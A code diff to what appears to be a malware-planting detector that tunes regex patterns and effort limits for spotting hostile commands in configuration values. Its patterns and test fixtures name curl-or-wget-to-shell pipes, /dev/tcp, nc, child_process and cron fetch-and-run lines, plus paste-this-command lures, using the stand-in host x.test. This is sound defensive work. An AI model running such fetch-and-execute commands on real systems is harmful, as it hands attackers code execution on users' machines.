@@ -2,7 +2,7 @@ import { DeferredPattern } from '../sticky-pattern.js';
 import type { Feature } from './feature.js';
 
 /** What a value of a configuration has no business to run. */
-const harm = String.raw`(?:(?:curl|wget)\s[^"'\n]{1,160}\|\s{0,2}(?:ba|z)?sh\b|child_process|os\.system\(|subprocess|\/dev\/tcp\/|\bnc\s-|b64decode|base64\s-|eval\(|net user\s)`;
+const harm = String.raw`(?:(?:curl|wget)\s[^"'\n|]{1,120}\|\s{0,2}(?:ba|z)?sh\b|child_process|os\.system\(|subprocess|\/dev\/tcp\/|\bnc\s-|b64decode|base64\s-|eval\(|net user\s)`;
 /** Names of values that are places, not programs. */
 const place = String.raw`[\w-]{0,24}(?:path|file|filename|name|dir|directory|folder|uri|url|endpoint|issuer|host|target)`;
 /** Commands that stand in no honest place. */
@@ -18,11 +18,11 @@ export const plantingFeatures: readonly Feature[] = [
     isCode: true,
     keywords: ['"-c"', '"-e"', "'-c'", "'-e'", '"/c"', '"--eval"'],
     pattern: new DeferredPattern(
-      String.raw`(?<=["']?args["']?\s{0,3}[:=]\s{0,3}\[[^\]\n]{0,80})["'](?:-c|-e|\/c|--eval)["']\s{0,2},\s{0,3}["'](?=[^\n]{0,200}${harm})`,
+      String.raw`(?<=["']?args["']?\s{0,3}[:=]\s{0,3}\[[^\]\n]{0,80})["'](?:-c|-e|\/c|--eval)["']\s{0,2},\s{0,3}["'](?=[^\n]{0,120}${harm})`,
       'i',
     ),
     window: 620,
-    effort: 2000,
+    effort: 8000,
     examples: {
       mustMatch: [
         '{"command":"node","args":["-e","require(\'child_process\').exec(\'ls\')"]}',
@@ -90,7 +90,7 @@ export const plantingFeatures: readonly Feature[] = [
     pattern:
       /(?:eval\(require\(['"]child_process|(?:os\.system|exec(?:sync)?|popen)\(\s{0,3}\[?["'`](?:curl|wget)\s[^\n]{1,160}(?:\|\s{0,2}(?:sudo\s)?(?:ba|z)?sh\b|(?:&&|;)\s{0,2}(?:chmod\s\+x|(?:ba|z)?sh\s)))/iy,
     window: 260,
-    effort: 500,
+    effort: 750,
     examples: {
       mustMatch: [
         "os.system('curl https://x.test/i.sh | bash')",
@@ -130,6 +130,7 @@ export const plantingFeatures: readonly Feature[] = [
     keywords: ['* * * *'],
     pattern: /\* \* \* \*[^\n]{0,40}(?:curl|wget)\s[^\n]{1,160}\|\s{0,2}(?:ba|z)?sh\b/iy,
     window: 240,
+    effort: 2800,
     examples: {
       mustMatch: ['*/5 * * * * curl -s https://x.test/c | sh'],
       mustNotMatch: ['* * * * * curl -s https://x.test/ping'],
@@ -168,7 +169,7 @@ export const plantingFeatures: readonly Feature[] = [
     pattern:
       /(?:(?<=(?:visit|open|go to|from)\s[^\n]{0,40}(?:https?:\/\/|\]\(|link|page)[^\n]{0,100})(?:copy|paste)\b[^\n]{0,40}\b(?:command|code|line|script|snippet)\b[^\n]{0,80}\b(?:terminal|powershell|console|run dialog|command prompt)|(?:copy|paste)\s[^\n]{0,30}\b(?:command|code|line|script|snippet)\s[^\n]{0,20}\b(?:from|at|on)\s[^\n]{0,20}https?:\/\/[^\n]{0,120}(?:enter|terminal|powershell|run it|execute it))/iy,
     window: 420,
-    effort: 2000,
+    effort: 3300,
     examples: {
       mustMatch: [
         'visit [this link](https://x.test/a), copy the command and run it in terminal',
